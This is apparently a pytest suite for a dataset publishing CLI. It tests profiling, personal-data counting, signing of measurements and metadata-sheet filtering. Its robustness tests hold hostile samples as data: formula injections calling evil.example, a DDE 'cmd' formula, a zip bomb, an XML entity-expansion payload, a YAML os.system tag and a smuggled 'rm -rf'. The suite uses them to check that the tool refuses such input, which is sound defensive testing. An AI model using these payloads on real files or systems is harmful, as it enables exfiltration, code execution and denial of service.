"""What is computed of a dataset's content: right on data whose figures are known, bounded on data that means harm."""

import json
from pathlib import Path

import pytest

from publisher_cli.profiling import profile as profiling
from publisher_cli.profiling.content import best_language, count_personal, language_scores
from publisher_cli.profiling.profile import profile_folder

EN = "The tenant shall pay the rent that is due under this lease to the landlord and shall not be in arrears with any such payment. "
DE = "Der Mieter zahlt die Miete an den Vermieter und darf nicht mit der Zahlung in Verzug sein, die für die Wohnung geschuldet wird. "
FR = "Le locataire doit payer le loyer qui est dû au bailleur dans les délais et ne peut pas être en retard pour les paiements. "


@pytest.fixture
def profile(tmp_path):
    def look(**files):
        root = tmp_path / "data"
        for name, content in files.items():
            path = root / name.replace("__", "/").replace("_", ".", 1)
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(content if isinstance(content, bytes) else content.encode())
        paths = [one.relative_to(root).as_posix() for one in root.rglob("*") if one.is_file()]
        return profile_folder(root, paths)

    return look


def figures(one):
    return {entry["metric"]: entry["value"] for entry in one.measurements()}


def test_known_tables_have_known_figures(profile):
    found = profile(
        a_csv="text,label\nx,1\nx,1\ny,\nbroken\n",
        b_jsonl='{"text": "x", "label": "1"}\n\n{"text": "z", "label": null}\nnot json\n[1]\n',
    )
    got = figures(found)
    assert (found.records, found.malformed) == (8, 3)
    assert got["validity"] == "0.625"  # 5 of 8
    assert got["completeness"] == "0.8"  # 8 of 10 cells
    assert got["uniqueness"] == "0.6"  # x,1 stands three times, once in another format
    assert got["duplicate-records"] == "2"
    assert (got["files:csv"], got["files:jsonl"]) == ("1", "1")


def test_every_measurement_names_its_tool_and_is_computed(profile):
    for one in profile(a_csv="a\n1\n", b_txt=EN, c_pdf="%PDF").measurements():
        assert one["assurance"] == "computed"
        assert one["method"].startswith("datasigil ")


def test_duplicate_files_are_counted_by_bytes(profile):
    assert figures(profile(a_txt="same", b_txt="same", c__d_txt="same", e_txt="diff"))["duplicate-files"] == "2"


@pytest.mark.parametrize(
    ("text", "kind", "count"),
    [
        ("write to jane.doe@example.org or j@x.co.uk, not to @example or a@b", "email", 2),
        ("call +44 20 7946 0018 or +49 (30) 1234567; section 1.2.3 of 2019", "phone", 2),
        ("IBAN DE89 3704 0044 0532 0130 00 is one, DE89 3704 0044 0532 0130 01 is not", "iban", 1),
        (
            "card 4111 1111 1111 1111 passes Luhn, 4111 1111 1111 1112 does not, 5500005555555559 does",
            "payment-card",
            2,
        ),
        ("SSN 123-45-6789 counts; 000-12-3456, 666-12-3456, 987-65-4321 and 123-00-4567 never were", "us-ssn", 1),
        ("hosts 192.168.0.1 and 8.8.8.8; version 1.2.3.4.5 and 300.1.1.1 are none", "ip-address", 2),
        ("Section 12(3), clause 4.5.6, page 17 of 21 March 2019, GBP 1,000,000.00, case C-131/12", "email", 0),
    ],
)
def test_what_has_the_form_of_personal_data_is_counted(text, kind, count):
    assert count_personal(text).get(kind, 0) == count


def test_a_count_of_zero_never_becomes_absent(run, data):
    run("init", data, "--yes")
    assert "personalData" not in Path("leases.dataset.toml").read_text()


@pytest.mark.parametrize(
    ("text", "language"),
    [(EN * 3, "en"), (DE * 3, "de"), (FR * 3, "fr"), ("lorem ipsum dolor sit amet " * 20, ""), ("x", ""), ("", "")],
)
def test_a_language_is_named_only_where_its_own_words_speak_for_it(text, language):
    assert best_language(*language_scores(text)) == language


def test_languages_and_dates_fill_in_what_no_source_said(run, tmp_path):
    folder = tmp_path / "texts"
    folder.mkdir()
    (folder / "a.csv").write_text("date,text\n2019-03-01," + EN.replace(",", "") * 3 + "\n2021-05-07,x\nunknown,y\n")
    answer = run.json("init", folder, "--yes")
    assert answer["profile"]["languages"] == ["en"]
    assert (answer["profile"]["firstDate"], answer["profile"]["lastDate"]) == ("2019-03-01", "2021-05-07")
    text = Path("texts.dataset.toml").read_text()
    assert 'inLanguage = ["en"]' in text
    assert "computed" in text


def test_a_card_that_names_another_language_than_the_text_is_noted(run, data):
    (data / "more.txt").write_text(DE * 5)
    assert any("looks like de" in note for note in run.json("init", data, "--yes")["notes"])


def test_issue_signs_what_it_computed_itself(run, publisher, data):
    run("init", data, "--yes")
    (data / "train.jsonl").write_text('{"text": "x"}\n{"text": "x"}\n')  # changed since `init`
    run("issue", data, "-o", "c.json")
    signed = {
        one["metric"]: one for one in json.loads(Path("c.json").read_text())["credentialSubject"]["qualityMeasurement"]
    }
    assert signed["duplicate-records"]["value"] == "1"
    run("issue", data, "-o", "d.json", "--no-profile")
    assert "qualityMeasurement" not in json.loads(Path("d.json").read_text())["credentialSubject"]


def test_a_person_cannot_state_something_as_computed(run, publisher, data):
    run("init", data, "--yes")
    path = Path("leases.dataset.toml")
    entry = '\n[[qualityMeasurement]]\nmetric = "completeness"\nvalue = "1"\nmethod = "by eye"\nassurance = "{}"\n'
    path.write_text(path.read_text() + entry.format("computed"))
    run.refused("issue", data, code="DESCRIPTION_FILE", exit_code=2)
    path.write_text(path.read_text().replace('"computed"', '"declared"'))
    run("issue", data, "-o", "c.json")
    stated = json.loads(Path("c.json").read_text())["credentialSubject"]["qualityMeasurement"]
    assert stated[0] == {"metric": "completeness", "value": "1", "method": "by eye", "assurance": "declared"}


def test_beyond_the_bound_uniqueness_is_unknown_and_no_guess(profile, monkeypatch):
    monkeypatch.setattr(profiling, "RECORDS_REMEMBERED_MAX", 3)
    got = figures(profile(a_csv="n\n" + "".join(f"{n}\n" for n in range(10))))
    assert (got["uniqueness"], got["duplicate-records"], got["validity"]) == ("unknown", "unknown", "1")


def test_text_beyond_the_bound_is_said_to_be_left_out(profile, monkeypatch):
    monkeypatch.setattr(profiling, "TEXT_SEARCHED_MAX_BYTES", 300)
    one = profile(a_txt=EN * 2, b_txt="jane@example.org " * 40)
    method = next(entry["method"] for entry in one.measurements() if entry["metric"] == "pii:email")
    assert "the first 252 bytes of text" in method


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a_csv", b'a,b\n"never closed\n1,2\n' * 50),
        ("a_csv", b"\xff\xfe\x00a,b\n"),
        ("a_csv", b"a,a\n1,2\n"),
        ("a_csv", b""),
        ("a_csv", b"\n\n\n"),
        ("a_csv", b"a\n" + b"x" * 200_000 + b"\n"),
        ("a_tsv", b"a\tb\n1\n"),
        ("a_jsonl", b"[" * 5000),
        ("a_jsonl", b'{"a": ' * 2000),
        ("a_jsonl", b'{"a": 1e999}\n{"a": NaN}\n{"a": "\\ud800"}\n'),
        ("a_jsonl", b'{"a": 1, "a": 2}\n'),
        ("a_jsonl", b"\xff\n\x00\n"),
        ("a_jsonl", b'null\ntrue\n1\n"x"\n'),
        ("a_txt", b"\x00" * 10_000),
        ("a_txt", b"\xff" * 10_000),
        ("a_txt", b"a" * 3_000_000),
        ("a_txt", b"1-" * 200_000),
        ("a_txt", b"a@" * 200_000),
        ("a_txt", b"+1 " * 200_000),
        ("a_txt", b"DE12 " * 200_000),
        ("a_txt", b"1.1." * 200_000),
        ("a_txt", ("a." * 100_000 + "@").encode()),
        ("a_html", b"<script>alert(1)</script>"),
        ("a_pdf", b"%PDF-1.7 \xff\xfe"),
        ("a_docx", b"PK\x03\x04 corrupt"),
    ],
)
def test_content_that_means_harm_is_counted_and_breaks_nothing(profile, name, content):
    one = profile(**{name: content})
    assert sum(one.formats.values()) == 1
    for entry in one.measurements():
        assert entry["value"] == "unknown" or float(entry["value"]) >= 0


# The sheet ------------------------------------------------------------------------------------------------------------

SHEET = "file,jurisdiction,date,license\ntrain.jsonl,England and Wales,2021-03-31,CC-BY-4.0\nparts/Zürich – Ω.csv,Switzerland,2019-01-01,CC-BY-4.0\n"


@pytest.fixture
def sheeted(data):
    (data / "metadata.csv").write_text(SHEET)
    return data


def test_the_rows_are_signed_by_digest_and_bound_to_their_files(run, publisher, sheeted):
    import base64
    import hashlib

    run("init", sheeted, "--yes")
    run("issue", sheeted, "-o", "c.json")
    document, data = json.loads(Path("c.json").read_text()), Path("c.files.jsonl").read_bytes()
    (resource,) = document["relatedResource"]
    assert resource["digestSRI"] == "sha384-" + base64.b64encode(hashlib.sha384(data).digest()).decode()
    rows = [json.loads(line) for line in data.splitlines()]
    assert [row["path"] for row in rows] == ["parts/Zürich – Ω.csv", "train.jsonl"]
    assert rows[1]["sha256"] == hashlib.sha256((sheeted / "train.jsonl").read_bytes()).hexdigest()
    assert rows[1]["columns"] == {"jurisdiction": "England and Wales", "date": "2021-03-31", "license": "CC-BY-4.0"}
    measured = {one["metric"]: one["value"] for one in document["credentialSubject"]["qualityMeasurement"]}
    assert (measured["sheet-coverage"], measured["sheet-dangling"]) == ("1", "0")


def test_gaps_in_both_directions_are_said_and_signed(run, publisher, sheeted):
    (sheeted / "unnamed.txt").write_text("x")
    (sheeted / "metadata.csv").write_text(SHEET + "gone.txt,France,2020-01-01,MIT\n")
    run("init", sheeted, "--yes")
    answer = run("issue", sheeted, "-o", "c.json")
    assert "names files that are not there: gone.txt" in answer.err
    assert "does not name these files: unnamed.txt" in answer.err
    measured = {
        one["metric"]: one["value"]
        for one in json.loads(Path("c.json").read_text())["credentialSubject"]["qualityMeasurement"]
    }
    assert (measured["sheet-coverage"], measured["sheet-dangling"]) == ("0.666666", "1")


@pytest.mark.parametrize(
    ("conditions", "found"),
    [
        (("jurisdiction=England and Wales",), ["train.jsonl"]),
        (("jurisdiction~land",), ["parts/Zürich – Ω.csv", "train.jsonl"]),
        (("date>=2020-01-01",), ["train.jsonl"]),
        (("date<=2020-01-01", "license=CC-BY-4.0"), ["parts/Zürich – Ω.csv"]),
        (("jurisdiction!=Switzerland",), ["train.jsonl"]),
        (("Jurisdiction = Switzerland",), ["parts/Zürich – Ω.csv"]),
        (("jurisdiction=Mars",), []),
        ((), ["parts/Zürich – Ω.csv", "train.jsonl"]),
    ],
)
@pytest.mark.parametrize("signed", [False, True])
def test_columns_are_usable_in_filters(run, publisher, sheeted, conditions, found, signed):
    place = sheeted
    if signed:
        run("init", sheeted, "--yes")
        run("issue", sheeted, "-o", "c.json")
        place = "c.files.jsonl"
    answer = run.json(
        "files", place, *(word for one in conditions for word in ("--where", one)), expect=0 if found else 1
    )
    assert answer["files"] == found


def test_an_empty_cell_meets_no_condition(run, sheeted):
    (sheeted / "metadata.csv").write_text(SHEET.replace("Switzerland", ""))
    assert run.json("files", sheeted, "--where", "jurisdiction!=France")["files"] == ["train.jsonl"]


@pytest.mark.parametrize("condition", ["", "nothing", "planet=Mars", "=x", "jurisdiction", "a\x1bb=c"])
def test_a_condition_that_means_nothing_is_refused(run, sheeted, condition):
    error = run.refused("files", sheeted, "--where", condition, code="USAGE", exit_code=2)
    assert "jurisdiction" in error["expected"]


def _book(path, rows, formula=None):
    from openpyxl import Workbook

    book = Workbook()
    for row in rows:
        book.active.append(row)
    if formula:
        book.active["B2"] = formula
    book.save(path)


@pytest.mark.parametrize(
    "formula",
    [
        "=1+1",
        '=HYPERLINK("https://evil.example/?"&A1,"x")',
        "=cmd|' /C calc'!A0",
        '=WEBSERVICE("https://evil.example")',
        '=IF(1,"CC0-1.0","MIT")',
    ],
)
@pytest.mark.parametrize("command", [("init", "--yes", "--from"), ("issue", "--sheet")])
def test_a_formula_in_a_workbook_is_no_value(run, publisher, data, tmp_path, formula, command):
    sheet = tmp_path / "sheet.xlsx"
    _book(sheet, [["file", "license"], ["train.jsonl", "x"]], formula)
    if command[0] == "issue":
        run("init", data, "--yes")
    error = run.refused(command[0], data, *command[1:], sheet, code="SOURCE_FILE", exit_code=2)
    assert "row 2 holds a formula" in error["message"]


def test_text_that_looks_like_a_formula_in_a_csv_stays_text(run, publisher, data, tmp_path):
    (data / "metadata.csv").write_text('file,jurisdiction\ntrain.jsonl,"=HYPERLINK(""https://evil.example"")"\n')
    run("init", data, "--yes")
    run("issue", data, "-o", "c.json")
    row = json.loads(Path("c.files.jsonl").read_text())
    assert row["columns"]["jurisdiction"] == '=HYPERLINK("https://evil.example")'


def _bomb(path):
    import zipfile

    _book(path, [["file", "license"], ["train.jsonl", "x"]])
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/zeros.bin", b"\0" * (300 * 1024 * 1024))


def _entities(path):
    import zipfile

    source = path.with_suffix(".src.xlsx")
    _book(source, [["file", "license"], ["train.jsonl", "x"]])
    lol = '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(path, "w") as new:
        for one in old.infolist():
            text = old.read(one)
            if one.filename == "xl/worksheets/sheet1.xml":
                text = (lol + text.decode().partition("?>")[2].replace("train.jsonl", "&c;")).encode()
            new.writestr(one.filename, text)


@pytest.mark.parametrize(
    "write",
    [
        lambda p: p.write_bytes(b""),
        lambda p: p.write_bytes(b"PK\x03\x04" + b"\0" * 100),
        lambda p: p.write_text("file,license\na,b\n"),
        lambda p: p.write_bytes(
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096
        ),  # OLE: an encrypted or old workbook
        _bomb,
        _entities,
        lambda p: _book(p, []),
        lambda p: _book(p, [["file", "file"], ["a", "b"]]),
        lambda p: p.mkdir(),
    ],
)
def test_a_workbook_that_cannot_be_used_is_refused_by_name(run, data, tmp_path, write):
    sheet = tmp_path / "sheet.xlsx"
    write(sheet)
    answer = run("init", data, "--yes", "--from", sheet, "--json", expect=2)
    assert answer.json["code"] in ("SOURCE_FILE", "SYSTEM")
    assert str(sheet) in answer.json["place"]
    assert not Path("leases.dataset.toml").exists()


@pytest.mark.parametrize(
    "rows",
    [
        "file,license\ntrain.jsonl,MIT\ntrain.jsonl,Apache-2.0\n",
        "name,license\ntrain.jsonl,MIT\n",
        "",
        'file,license\n"train.jsonl,MIT\n',
        "file,license\ntrain.jsonl,\0\n",
    ],
)
def test_a_sheet_that_says_two_things_or_none_is_refused(run, publisher, data, tmp_path, rows):
    run("init", data, "--yes")
    (tmp_path / "sheet.csv").write_text(rows)
    error = run.refused("issue", data, "--sheet", tmp_path / "sheet.csv", code="SOURCE_FILE", exit_code=2)
    assert error["place"].endswith("sheet.csv")


# Cards and other sources ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "card",
    [
        "---\n", "---\n---\n", "---\nlicense: [a, b\n---\n", "---\nlicense: !!python/object/apply:os.system ['x']\n---\n", "---\n? a\n: b\n---\n",
        "---\nlicense: &a mit\nlicense: *a\n---\n", "---\n" + "a: b\n" * 10_000 + "---\n", "---\nlicense: " + "x" * 100_000 + "\n---\n",
        "---\nlanguage: [en, \x1b[2J]\n---\n", "---\nlicense: mit\n---\n" + "#" * 100_000, "\ufeff---\nlicense: mit\n---\n", "---\r\nlicense: mit\r\n---\r\n",
        "---\npretty_name: \u202egnp.exe\nlicense: mit\n---\n", "---\nversion: 1.0; rm -rf\n---\n", "---\nlicense:\n  - mit\n  - apache-2.0\n---\n",
    ],
)  # fmt: skip
def test_a_corrupt_card_breaks_nothing_and_makes_nothing_up(run, publisher, data, card):
    (data / "README.md").write_text(card)
    (data / "LICENSE.txt").unlink()
    answer = run("init", data, "--yes")
    assert "\x1b" not in answer.out + answer.err
    assert "\u202e" not in answer.out + answer.err
    run("issue", data, "-o", "c.json")
    licence = json.loads(Path("c.json").read_text())["credentialSubject"]["license"]["expression"]
    assert licence in ("unknown", "MIT")


@pytest.mark.parametrize("content", [b"\xff\xfe", b"x" * (17 * 1024 * 1024)])
def test_a_card_that_cannot_be_read_is_noted_and_the_rest_goes_on(run, data, content):
    (data / "README.md").write_bytes(content)
    answer = run.json("init", data, "--yes", "--no-profile")
    assert any("README.md was not read" in note for note in answer["notes"])
    assert answer["license"] == "CC-BY-4.0"
